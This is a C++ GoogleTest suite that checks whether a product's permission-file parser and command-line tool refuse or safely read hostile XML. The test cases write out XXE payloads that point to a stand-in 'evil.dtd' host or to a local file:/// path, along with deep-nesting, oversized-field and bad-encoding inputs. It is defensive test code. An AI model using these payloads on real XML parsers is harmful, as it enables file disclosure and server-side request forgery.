// Permission files that attack: they are read or refused whole, and nothing that they name is asked for.

#include <gtest/gtest.h>

#include "hostile/HostileFixture.h"
#include "support/Turns.h"

namespace {

constexpr char kInvalid[] = "ERROR 0x80004005 Invalid XML document ('";
constexpr char kCreation[] =
    "ERROR 0x80004005 An error occured while the ActiveX control was creating executer.  Destroying executer.";
constexpr char kDestroying[] =
    "ERROR 0x80004005 An error occured while reading permissions from 'permit.xml'.  Destroying permissions.";

struct PermitRow {
  const char* name;
  std::string file;
  bool isRead = false;
  Lines head = {};  // what is told about the file's head; without it, the parser refuses
};

class AttackingPermitTest : public HostileTest, public testing::WithParamInterface<PermitRow> {
 protected:
  AttackingPermitTest() {
    before = ReadWholeFile(installed.PermitPath());
    WriteWholeFile(documents.File("canary.txt"), "CANARY");
    server.Answer("/evil.dtd", Response().Body("<!ELEMENT VantorPermissions ANY><!ENTITY e 'CANARY'>"));
    DeleteLogs();
  }

  static Lines Expected() {
    Lines lines = {"INFO Permit File: {module}\\permit.xml"};
    lines.insert(lines.end(), GetParam().head.begin(), GetParam().head.end());
    if (GetParam().isRead)
      return lines;
    if (GetParam().head.empty()) {
      lines.push_back("ERROR 0x80004005 XML Parsing Error in '{cached}'");
      lines.push_back("ERROR 0x80004005 Failed to read XML document '{cached}'.");
    } else {
      lines.push_back("ERROR 0x80004005 Failed to copy '{module}\\permit.xml' to '{cached}'.");
    }
    for (const char* const line : {"ERROR 0x80004005 Failed to read permissions.", kDestroying, kCreation})
      lines.push_back(line);
    return lines;
  }

  std::string before;
};

TEST_P(AttackingPermitTest, ReachesNothing) {
  WriteWholeFile(installed.PermitPath(), Filled(GetParam().file));
  control->SetEnableLogDebug(VARIANT_TRUE);
  control = module.CreateControl();
  control->SetEnableLogDebug(VARIANT_FALSE);
  EXPECT_EQ(Expected(), Told("permit"));
  EXPECT_EQ(std::string::npos, ReadWholeFile(LogCapture::PathOf("permit")).find("CANARY"));
  EXPECT_EQ(Lines{}, server.Asked());
  EXPECT_HRESULT(GetParam().isRead ? S_OK : E_UNEXPECTED, RunAnswered(Response().Body(ManifestOf(""))));
  WriteWholeFile(installed.PermitPath(), before);
  control = module.CreateControl();
}

// A document whose root cannot be read is judged as a manifest.
const bool kAreExplanationsShared = ShareCases("AttackingPermitTest", "IsCheckedAndExplainedWithoutReachingAnything");

TEST_P(AttackingPermitTest, IsCheckedAndExplainedWithoutReachingAnything) {
  WriteWholeFile(documents.File("attack.xml"), Filled(GetParam().file));
  const ProgramResult checked = RunTool({L"check", L"attack.xml"});
  EXPECT_EQ(GetParam().isRead ? 0u : 1u, checked.code) << checked.output;
  EXPECT_EQ(0u, checked.output.find(
                    GetParam().isRead ? "valid and sound: attack.xml (permission file)\n" : "not valid: attack.xml ("))
      << checked.output;
  EXPECT_EQ("", checked.errors);
  const ProgramResult explained = RunTool({L"explain", L"--permit", L"attack.xml", L"--extension", L"txt"});
  EXPECT_EQ(GetParam().isRead ? 0u : 3u, explained.code) << explained.output;
  EXPECT_EQ(GetParam().isRead, explained.errors.empty()) << explained.errors;
  EXPECT_EQ(std::string::npos, (checked.output + explained.output + explained.errors).find("CANARY")) << checked.output;
  EXPECT_EQ(Lines{}, server.Asked());
}

const std::string kDeclaration = "<?xml version=\"1.0\"?>";
const std::string kType = "<!DOCTYPE VantorPermissions>";
const std::string kBody =
    "<VantorPermissions version=\"1.0\"><Source><URL>{server}/</URL><Extension>txt</Extension></Source>"
    "<Destination><Path>{folder}</Path></Destination></VantorPermissions>";
const std::string kReferring = Replaced(kBody, "{server}/", "{server}/&e;");
const std::string kEvilType = "<!DOCTYPE VantorPermissions [<!ENTITY e SYSTEM \"{server}/evil.dtd\">]>";
const std::string kMegabytes(2000000, 'm');

std::string Encoded(const std::string& encoding) {
  return "<?xml version=\"1.0\" encoding=\"" + encoding + "\"?>" + kType + kBody;
}

std::string Nested() {
  std::string start, end;
  for (int i = 0; i < 20000; ++i) {
    start += "<Source>";
    end += "</Source>";
  }
  return kDeclaration + kType + "<VantorPermissions version=\"1.0\">" + start + end + "</VantorPermissions>";
}

INSTANTIATE_TEST_SUITE_P(
    , AttackingPermitTest,
    testing::Values(
        PermitRow{"EntityNotDeclared", kDeclaration + kType + kReferring},
        PermitRow{"EntityOfTheServer", kDeclaration + kEvilType + kReferring},
        PermitRow{"EntityOfAFile",
                  kDeclaration + Replaced(kEvilType, "{server}/evil.dtd", "file:///{documents}\\canary.txt") + kReferring},
        PermitRow{
            "ParameterEntity",
            kDeclaration + "<!DOCTYPE VantorPermissions [<!ENTITY % p SYSTEM \"{server}/evil.dtd\"> %p;]>" + kReferring},
        PermitRow{"ExternalType", kDeclaration + "<!DOCTYPE VantorPermissions SYSTEM \"{server}/evil.dtd\">" + kBody, true},
        PermitRow{"SecondType", kDeclaration + kType + kEvilType + kReferring},
        PermitRow{"TypeInAnOpenInstruction", "<?xml-a ><!DOCTYPE x>?>" + kEvilType + kReferring, false,
                  Lines{std::string(kInvalid) + "<?xml-a >')."}},
        PermitRow{"CommentWithAType", kDeclaration + "<!-- <!DOCTYPE x> -->" + kType + kBody},
        PermitRow{"StyleSheet",
                  kDeclaration + kType + "<?xml-stylesheet type=\"text/xsl\" href=\"{server}/evil.dtd\"?>" + kBody, true},
        PermitRow{"ReducedSchema", Replaced(kDeclaration + kType + kBody, "version=\"1.0\">",
                                            "version=\"1.0\" xmlns:a=\"x-schema:{server}/evil.dtd\">")},
        PermitRow{"UTF8", Encoded("UTF-8"), true}, PermitRow{"Latin1", Encoded("ISO-8859-1"), true},
        PermitRow{"UnknownEncoding", Encoded("x-nobody")}, PermitRow{"UTF16ThatIsNone", Encoded("UTF-16")},
        PermitRow{"ZeroByte", Replaced(kDeclaration + kType + kBody, "<Source>", std::string("\0<Source>", 9))},
        PermitRow{"NestedElements", Nested()},
        PermitRow{"TypeOfMegabytes", kDeclaration + "<!DOCTYPE " + kMegabytes, false,
                  Lines{std::string(kInvalid) + ("<!DOCTYPE " + kMegabytes).substr(0, 511) + "')."}},
        PermitRow{"VersionOfMegabytes",
                  kDeclaration + kType + Replaced(kBody, "version=\"1.0\"", "version=\"" + kMegabytes + "\""), true},
        PermitRow{"URLOfMegabytes",
                  kDeclaration + kType + Replaced(kBody, "<URL>", "<URL>http://h/" + kMegabytes + "/</URL><URL>"), true}),
    [](const testing::TestParamInfo<PermitRow>& row) { return std::string(row.param.name); });

}  // namespace
